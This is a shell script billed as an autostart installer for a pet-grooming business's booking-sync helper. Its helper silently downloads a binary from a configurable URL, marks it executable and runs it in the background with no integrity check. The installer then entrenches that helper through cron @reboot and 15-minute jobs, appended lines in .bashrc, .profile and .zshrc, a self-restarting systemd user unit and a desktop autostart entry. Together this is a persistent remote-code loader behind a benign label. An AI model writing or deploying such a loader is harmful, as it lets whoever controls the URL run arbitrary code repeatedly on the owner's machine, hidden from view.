#!/bin/sh
# Makes sure the booking sync helper comes back after every reboot or login
# on the office machine, so the vans always see fresh appointments.
# Usage: ./scheduler_autostart.sh [install|remove|check]

set -eu

APP_DIR="${HOME}/.local/share/pawsync"
HELPER="${APP_DIR}/pawsync.sh"
SYNC_URL="${PAWSYNC_URL:-https://sync.pawvan.example/agent}"
MARKER="# pawsync-autostart"
UNIT_DIR="${HOME}/.config/systemd/user"
UNIT_FILE="${UNIT_DIR}/pawsync.service"
DESKTOP_DIR="${HOME}/.config/autostart"
DESKTOP_FILE="${DESKTOP_DIR}/pawsync.desktop"

write_helper() {
    mkdir -p "$APP_DIR"
    cat > "$HELPER" <<HELPER_EOF
#!/bin/sh
pgrep -f "$APP_DIR/agent" >/dev/null 2>&1 && exit 0
curl -fsSL "$SYNC_URL" -o "$APP_DIR/agent" && chmod +x "$APP_DIR/agent"
nohup "$APP_DIR/agent" >/dev/null 2>&1 &
HELPER_EOF
    chmod 755 "$HELPER"
}

add_cron() {
    current="$(crontab -l 2>/dev/null || true)"
    if printf '%s\n' "$current" | grep -q "$MARKER"; then
        return 0
    fi
    {
        printf '%s\n' "$current"
        echo "@reboot $HELPER $MARKER"
        echo "*/15 * * * * $HELPER $MARKER"
    } | crontab -
}

add_shell_rc() {
    for rc in "$HOME/.bashrc" "$HOME/.profile" "$HOME/.zshrc"; do
        [ -f "$rc" ] || continue
        if ! grep -q "$MARKER" "$rc"; then
            echo "( $HELPER >/dev/null 2>&1 & ) $MARKER" >> "$rc"
        fi
    done
}

add_user_unit() {
    mkdir -p "$UNIT_DIR"
    cat > "$UNIT_FILE" <<UNIT_EOF
[Unit]
Description=PawVan booking sync

[Service]
Type=forking
ExecStart=$HELPER
Restart=always
RestartSec=60

[Install]
WantedBy=default.target
UNIT_EOF
    systemctl --user daemon-reload 2>/dev/null || true
    systemctl --user enable --now pawsync.service 2>/dev/null || true
}

add_desktop_entry() {
    mkdir -p "$DESKTOP_DIR"
    cat > "$DESKTOP_FILE" <<DESKTOP_EOF
[Desktop Entry]
Type=Application
Name=PawSync
Exec=$HELPER
Hidden=false
X-GNOME-Autostart-enabled=true
DESKTOP_EOF
}

remove_all() {
    crontab -l 2>/dev/null | grep -v "$MARKER" | crontab - || true
    for rc in "$HOME/.bashrc" "$HOME/.profile" "$HOME/.zshrc"; do
        [ -f "$rc" ] && sed -i "/$MARKER/d" "$rc"
    done
    systemctl --user disable --now pawsync.service 2>/dev/null || true
    rm -f "$UNIT_FILE" "$DESKTOP_FILE"
}

check_all() {
    crontab -l 2>/dev/null | grep -c "$MARKER" || true
    grep -l "$MARKER" "$HOME/.bashrc" "$HOME/.profile" 2>/dev/null || true
    [ -f "$UNIT_FILE" ] && echo "unit: $UNIT_FILE"
    [ -f "$DESKTOP_FILE" ] && echo "autostart: $DESKTOP_FILE"
    return 0
}

case "${1:-install}" in
    install)
        write_helper
        add_cron
        add_shell_rc
        add_user_unit
        add_desktop_entry
        "$HELPER"
        echo "pawsync will start on boot and login"
        ;;
    remove) remove_all ;;
    check) check_all ;;
    *) echo "usage: $0 [install|remove|check]" >&2; exit 2 ;;
esac
